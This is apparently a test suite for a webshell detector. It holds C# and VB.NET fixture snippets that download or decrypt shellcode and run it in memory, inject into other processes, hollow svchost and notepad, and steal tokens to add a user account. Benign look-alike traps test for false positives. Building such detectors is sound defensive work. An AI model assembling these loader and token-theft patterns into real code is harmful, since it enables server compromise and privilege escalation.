// Native code started by a page without request input: shellcode (downloaded, decrypted or embedded)
// put into executable memory and run on a thread, injected into another process, or a suspended
// process hollowed. Traps are shaped like application code that uses the same APIs for other ends.
// Fixtures are inert (server comments).
import assert from "node:assert/strict";
import { test } from "node:test";
import { analyse } from "../../src/detections/webshells/analyse.js";
import { inertCode as inert, contentDrafts as run, swept } from "../sweep-helpers.js";

const DIR = "D:\\Sites\\shop\\";
const checks = (name: string, code: string, lang = "C#") =>
  run(swept(`${DIR}${name}`, inert(code, lang))).map((d) => d.check);
const rules = (name: string, code: string, lang = "C#") =>
  analyse(Buffer.from(inert(code, lang), "latin1"), name).signals.map((s) => s.rule);

const K32 = '[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);';
const THREAD =
  '[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr id);';

test("downloaded shellcode run in memory with no request input: WebClient, HttpClient, WebRequest stream", () => {
  const webclient = [
    K32,
    THREAD,
    'byte[] buf = new WebClient().DownloadData("http://10.1.2.3/a.bin");',
    "IntPtr mem = VirtualAlloc(IntPtr.Zero, (uint)buf.Length, 0x3000, 0x40);",
    "Marshal.Copy(buf, 0, mem, buf.Length);",
    "CreateThread(IntPtr.Zero, 0, mem, IntPtr.Zero, 0, IntPtr.Zero);",
  ].join("\n");
  assert.deepEqual(checks("a.aspx", webclient), ["webshell-behaviour"]);
  // HttpClient bytes, allocation flags by name, started through a delegate made from the pointer.
  const http = [
    'IntPtr va = GetProcAddress(LoadLibrary("kernel32.dll"), "VirtualAlloc");',
    "const uint PAGE_EXECUTE_READWRITE = 0x40;",
    'byte[] sc = new HttpClient().GetByteArrayAsync("https://cdn.example.net/x").Result;',
    "IntPtr p = VirtualAlloc(IntPtr.Zero, (uint)sc.Length, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);",
    "Marshal.Copy(sc, 0, p, sc.Length);",
    "var f = (Runner)Marshal.GetDelegateForFunctionPointer(p, typeof(Runner)); f();",
  ].join("\n");
  assert.deepEqual(checks("b.aspx", http), ["webshell-behaviour"]);
  // VB.NET: Declare ... Lib, a response stream read into a buffer, RtlMoveMemory, CreateThread.
  const vb = [
    'Private Declare Function VirtualAlloc Lib "kernel32" (ByVal a As IntPtr, ByVal s As UInteger, ByVal t As UInteger, ByVal p As UInteger) As IntPtr',
    'Private Declare Sub RtlMoveMemory Lib "kernel32" (ByVal d As IntPtr, ByVal s As Byte(), ByVal n As Integer)',
    'Private Declare Function CreateThread Lib "kernel32" (ByVal a As IntPtr, ByVal s As UInteger, ByVal f As IntPtr, ByVal p As IntPtr, ByVal c As UInteger, ByVal id As IntPtr) As IntPtr',
    'Dim st As Stream = WebRequest.Create("http://10.1.2.3/p").GetResponse().GetResponseStream()',
    "Dim mem As IntPtr = VirtualAlloc(IntPtr.Zero, CUInt(buf.Length), &H3000, &H40)",
    "RtlMoveMemory(mem, buf, buf.Length)",
    "CreateThread(IntPtr.Zero, 0, mem, IntPtr.Zero, 0, IntPtr.Zero)",
  ].join("\n");
  assert.ok(rules("c.aspx", vb, "VB").includes("native-shellcode-runner"));
  assert.deepEqual(checks("c.aspx", vb, "VB"), ["webshell-behaviour"]);
});

test("decrypted or embedded shellcode: AES/XOR runners, VirtualProtect + QueueUserAPC, remote injection", () => {
  const aes = [
    K32,
    "private static IntPtr PAGE_EXECUTE_READWRITE = (IntPtr)0x40;",
    "byte[] enc = new byte[] { 0x46, 0x68, 0x1d, 0xee, 0x3f };",
    "using (var aes = Aes.Create()) { buf = aes.CreateDecryptor(key, iv).TransformFinalBlock(enc, 0, enc.Length); }",
    "IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)buf.Length, MEM_COMMIT, PAGE_EXECUTE_READWRITE);",
    "System.Runtime.InteropServices.Marshal.Copy(buf, 0, m, buf.Length);",
    "IntPtr h = CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, ref id);",
  ].join("\n");
  const d = run(swept(`${DIR}r.aspx`, inert(aes)));
  assert.deepEqual(
    d.map((x) => x.check),
    ["webshell-behaviour"],
  );
  assert.match(d[0].evidence.Signals, /native-shellcode-runner line 7 .*decrypted/);
  // Memory made executable afterwards (read-write allocation, then VirtualProtect to 0x20), run as an APC.
  const apc = [
    '[DllImport("kernel32.dll")] static extern bool VirtualProtect(IntPtr a, UIntPtr s, uint p, out uint o);',
    "for (int i = 0; i < sc.Length; i++) sc[i] ^= 0x5a;",
    "IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)sc.Length, 0x3000, 0x04);",
    "Marshal.Copy(sc, 0, m, sc.Length);",
    "VirtualProtect(m, (UIntPtr)sc.Length, 0x20, out old);",
    "QueueUserAPC(m, GetCurrentThread(), IntPtr.Zero);",
  ].join("\n");
  assert.ok(rules("q.aspx", apc).includes("native-shellcode-runner"));
  // Injection into another process: OpenProcess, VirtualAllocEx, WriteProcessMemory, CreateRemoteThread.
  const inject = [
    '[DllImport("kernel32.dll")] static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr a, uint s, uint t, uint p);',
    'IntPtr h = OpenProcess(0x001F0FFF, false, Process.GetProcessesByName("explorer")[0].Id);',
    "IntPtr addr = VirtualAllocEx(h, IntPtr.Zero, 0x1000, 0x3000, 0x40);",
    "WriteProcessMemory(h, addr, buf, buf.Length, out w);",
    "CreateRemoteThread(h, IntPtr.Zero, 0, addr, IntPtr.Zero, 0, IntPtr.Zero);",
  ].join("\n");
  assert.deepEqual(checks("i.aspx", inject), ["webshell-behaviour"]);
});

test("native-memory traps: a read-write buffer for a native API, dynamic P/Invoke, a page documenting the calls", () => {
  // An imaging page hands a read-write native buffer to a codec (no executable memory, no thread).
  const codec = [
    '[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);',
    "IntPtr native = VirtualAlloc(IntPtr.Zero, (UIntPtr)64, 0x3000, 0x04);",
    "Marshal.Copy(pixels, 0, native, pixels.Length);",
    "DecodeTile(native, pixels.Length);",
  ].join("\n");
  assert.deepEqual(checks("tile.aspx", codec), []);
  // Dynamic P/Invoke: a delegate from GetProcAddress, with a copied struct, but no executable memory.
  const dyn = [
    'IntPtr f = GetProcAddress(LoadLibrary("user32"), "GetSystemMetrics");',
    "var m = (MetricsFn)Marshal.GetDelegateForFunctionPointer(f, typeof(MetricsFn));",
    "Marshal.Copy(data, 0, ptr, data.Length);",
    "CreateThread(IntPtr.Zero, 0, IntPtr.Zero, IntPtr.Zero, 0, IntPtr.Zero);",
  ].join("\n");
  assert.ok(!rules("m.aspx", dyn).includes("native-shellcode-runner"));
  // A help page naming the calls, without any native declaration.
  const help =
    '<html><body><p>VirtualAlloc(0, n, 0x3000, 0x40), Marshal.Copy(buf, 0, p, n) and CreateThread(p) are how loaders work.</p>\n<% Response.Write(Request.QueryString["q"]); %></body></html>';
  assert.ok(
    !analyse(Buffer.from(help), "help.aspx").signals.some((s) => s.rule === "native-shellcode-runner"),
  );
});

test("process hollowing: CreateProcess suspended, image written or unmapped, thread resumed (C#, VB)", () => {
  const cs = [
    '[DllImport("kernel32.dll")] static extern bool CreateProcess(string a, string c, IntPtr pa, IntPtr ta, bool i, uint f, IntPtr e, string d, ref STARTUPINFO si, out PROCESS_INFORMATION pi);',
    'bool ok = CreateProcess(null, "C:\\\\Windows\\\\System32\\\\svchost.exe", IntPtr.Zero,',
    "    IntPtr.Zero, false, 0x4, IntPtr.Zero, null, ref si, out pi);",
    "ZwQueryInformationProcess(pi.hProcess, 0, ref bi, (uint)(IntPtr.Size * 6), ref tmp);",
    "WriteProcessMemory(pi.hProcess, entry, buf, buf.Length, out n);",
    "ResumeThread(pi.hThread);",
  ].join("\n");
  const d = run(swept(`${DIR}h.aspx`, inert(cs)));
  assert.deepEqual(
    d.map((x) => x.check),
    ["webshell-behaviour"],
  );
  assert.match(d[0].evidence.Signals, /process-hollowing line 4/);
  const vb = [
    'Declare Function CreateProcessA Lib "kernel32" (ByVal a As String, ByVal c As String, ByVal pa As IntPtr, ByVal ta As IntPtr, ByVal i As Boolean, ByVal f As UInteger, ByVal e As IntPtr, ByVal d As String, ByRef si As STARTUPINFO, ByRef pi As PROCESS_INFORMATION) As Boolean',
    "Const CREATE_SUSPENDED As UInteger = &H4",
    'CreateProcessA(Nothing, "notepad.exe", IntPtr.Zero, IntPtr.Zero, False, CREATE_SUSPENDED, IntPtr.Zero, Nothing, si, pi)',
    "NtUnmapViewOfSection(pi.hProcess, baseAddr)",
    "WriteProcessMemory(pi.hProcess, baseAddr, image, image.Length, written)",
    "ResumeThread(pi.hThread)",
  ].join("\n");
  assert.ok(rules("h.aspx", vb, "VB").includes("process-hollowing"));
});

test("hollowing traps: a worker started suspended into a job object, a process started normally", () => {
  // Sandboxing a converter: created suspended so it is in the job before it runs, then resumed.
  const job = [
    '[DllImport("kernel32.dll")] static extern bool CreateProcess(string a, string c, IntPtr pa, IntPtr ta, bool i, uint f, IntPtr e, string d, ref STARTUPINFO si, out PROCESS_INFORMATION pi);',
    'CreateProcess(null, "C:\\\\Tools\\\\convert.exe in.docx out.pdf", IntPtr.Zero, IntPtr.Zero, false, CREATE_SUSPENDED, IntPtr.Zero, null, ref si, out pi);',
    "AssignProcessToJobObject(job, pi.hProcess);",
    "ResumeThread(pi.hThread);",
  ].join("\n");
  assert.ok(!rules("conv.aspx", job).includes("process-hollowing"));
  assert.deepEqual(checks("conv.aspx", job), []);
  // Not suspended (flags 0x08000000, CREATE_NO_WINDOW), memory read for diagnostics.
  const diag = [
    '[DllImport("kernel32.dll")] static extern bool CreateProcess(string a, string c, IntPtr pa, IntPtr ta, bool i, uint f, IntPtr e, string d, ref STARTUPINFO si, out PROCESS_INFORMATION pi);',
    'CreateProcess(null, "C:\\\\Tools\\\\report.exe", IntPtr.Zero, IntPtr.Zero, false, 0x08000000, IntPtr.Zero, null, ref si, out pi);',
    "WriteProcessMemory(pi.hProcess, flagAddr, one, 1, out n);",
    "ResumeThread(pi.hThread);",
  ].join("\n");
  assert.ok(!rules("rep.aspx", diag).includes("process-hollowing"));
});

const ADVAPI = [
  '[DllImport("kernel32")] static extern IntPtr OpenProcess(uint access, bool inherit, int pid);',
  '[DllImport("advapi32")] static extern bool OpenProcessToken(IntPtr p, uint access, out IntPtr tok);',
  '[DllImport("advapi32")] static extern bool DuplicateTokenEx(IntPtr t, uint a, IntPtr sa, int l, int ty, out IntPtr dup);',
].join("\n");

test("token theft, named-pipe impersonation and powerful privileges, with no request input", () => {
  const steal = [
    ADVAPI,
    '[DllImport("advapi32", CharSet = CharSet.Unicode)] static extern bool CreateProcessWithTokenW(IntPtr t, int f, string app, string cmd, int c, IntPtr e, string d, ref STARTUPINFO si, out PROCESS_INFORMATION pi);',
    'int pid = Process.GetProcessesByName("winlogon")[0].Id;',
    "IntPtr h = OpenProcess(0x0400, false, pid);",
    "OpenProcessToken(h, 0x0002, out IntPtr tok);",
    "DuplicateTokenEx(tok, 0xF01FF, IntPtr.Zero, 2, 1, out IntPtr dup);",
    'CreateProcessWithTokenW(dup, 0, null, "cmd.exe /c net user x P@ss /add", 0, IntPtr.Zero, null, ref si, out pi);',
  ].join("\n");
  assert.ok(rules("t.aspx", steal).includes("token-theft"), String(rules("t.aspx", steal)));
  assert.deepEqual(checks("t.aspx", steal), ["webshell-behaviour"]);
  // VB, impersonating the duplicated token on the thread.
  const vb = [
    'Declare Function OpenProcess Lib "kernel32" (ByVal a As UInteger, ByVal i As Boolean, ByVal p As Integer) As IntPtr',
    'Declare Function OpenProcessToken Lib "advapi32" (ByVal p As IntPtr, ByVal a As UInteger, ByRef t As IntPtr) As Boolean',
    'Declare Function DuplicateToken Lib "advapi32" (ByVal t As IntPtr, ByVal l As Integer, ByRef d As IntPtr) As Boolean',
    'Declare Function SetThreadToken Lib "advapi32" (ByVal th As IntPtr, ByVal t As IntPtr) As Boolean',
    "Dim h As IntPtr = OpenProcess(&H400, False, lsassPid)",
    "OpenProcessToken(h, &HE, tok)",
    "DuplicateToken(tok, 2, dup)",
    "SetThreadToken(IntPtr.Zero, dup)",
  ].join("\n");
  assert.ok(rules("v.aspx", vb, "VB").includes("token-theft"), String(rules("v.aspx", vb, "VB")));
  const potato = [
    '[DllImport("kernel32")] static extern IntPtr CreateNamedPipe(string n, uint o, uint m, uint i, uint ob, uint ib, uint t, IntPtr sa);',
    '[DllImport("kernel32")] static extern bool ConnectNamedPipe(IntPtr p, IntPtr o);',
    '[DllImport("advapi32")] static extern bool ImpersonateNamedPipeClient(IntPtr p);',
    'IntPtr pipe = CreateNamedPipe(@"\\\\.\\pipe\\x\\pipe\\spoolss", 3, 0, 10, 2048, 2048, 0, IntPtr.Zero);',
    "ConnectNamedPipe(pipe, IntPtr.Zero);",
    "ImpersonateNamedPipeClient(pipe);",
  ].join("\n");
  assert.ok(rules("p.aspx", potato).includes("named-pipe-impersonation"), String(rules("p.aspx", potato)));
  assert.deepEqual(checks("p.aspx", potato), ["webshell-behaviour"]);
  const debug = [
    '[DllImport("advapi32")] static extern bool AdjustTokenPrivileges(IntPtr t, bool d, ref TOKEN_PRIVILEGES n, int l, IntPtr p, IntPtr r);',
    '[DllImport("advapi32")] static extern bool LookupPrivilegeValue(string s, string n, out LUID l);',
    'LookupPrivilegeValue(null, "SeDebugPrivilege", out luid);',
    "AdjustTokenPrivileges(tok, false, ref tp, 0, IntPtr.Zero, IntPtr.Zero);",
  ].join("\n");
  assert.ok(rules("d.aspx", debug).includes("enables-powerful-privilege"), String(rules("d.aspx", debug)));
});

test("token traps: LogonUser impersonation for a file share (the documented pattern), a shutdown privilege, a process monitor", () => {
  const share = [
    '[DllImport("advapi32.dll", SetLastError = true)] static extern bool LogonUser(string u, string d, string p, int t, int pr, out IntPtr tok);',
    '[DllImport("advapi32.dll")] static extern bool DuplicateToken(IntPtr t, int l, out IntPtr dup);',
    '[DllImport("advapi32.dll")] static extern bool OpenProcessToken(IntPtr p, uint a, out IntPtr t);',
    'LogonUser(ConfigurationManager.AppSettings["ShareUser"], "CORP", ConfigurationManager.AppSettings["SharePass"], 9, 0, out IntPtr tok);',
    "DuplicateToken(tok, 2, out IntPtr dup);",
    "using (WindowsImpersonationContext ctx = new WindowsIdentity(dup).Impersonate()) {",
    '  gridFiles.DataSource = Directory.GetFiles(@"\\\\fileserver\\reports");',
    "}",
  ].join("\n");
  assert.ok(
    !rules("s.aspx", share).some((r) => /token|pipe|privilege/.test(r)),
    String(rules("s.aspx", share)),
  );
  assert.deepEqual(checks("s.aspx", share), []);
  const shutdown = [
    '[DllImport("advapi32")] static extern bool OpenProcessToken(IntPtr p, uint a, out IntPtr t);',
    '[DllImport("advapi32")] static extern bool AdjustTokenPrivileges(IntPtr t, bool d, ref TOKEN_PRIVILEGES n, int l, IntPtr p, IntPtr r);',
    '[DllImport("user32")] static extern bool ExitWindowsEx(uint f, uint r);',
    "OpenProcessToken(Process.GetCurrentProcess().Handle, 0x28, out IntPtr tok);",
    'LookupPrivilegeValue(null, "SeShutdownPrivilege", out luid);',
    "AdjustTokenPrivileges(tok, false, ref tp, 0, IntPtr.Zero, IntPtr.Zero);",
    'if (User.IsInRole("Administrators")) ExitWindowsEx(2, 0);',
  ].join("\n");
  assert.ok(
    !rules("x.aspx", shutdown).some((r) => /token|pipe|privilege/.test(r)),
    String(rules("x.aspx", shutdown)),
  );
  assert.deepEqual(checks("x.aspx", shutdown), []);
  const monitor = [
    '[DllImport("kernel32")] static extern IntPtr OpenProcess(uint a, bool i, int p);',
    '[DllImport("psapi")] static extern bool GetProcessMemoryInfo(IntPtr h, out PROCESS_MEMORY_COUNTERS c, uint s);',
    "foreach (var p in Process.GetProcesses()) { IntPtr h = OpenProcess(0x1000, false, p.Id); GetProcessMemoryInfo(h, out c, 72); }",
  ].join("\n");
  assert.deepEqual(checks("m.aspx", monitor), []);
});
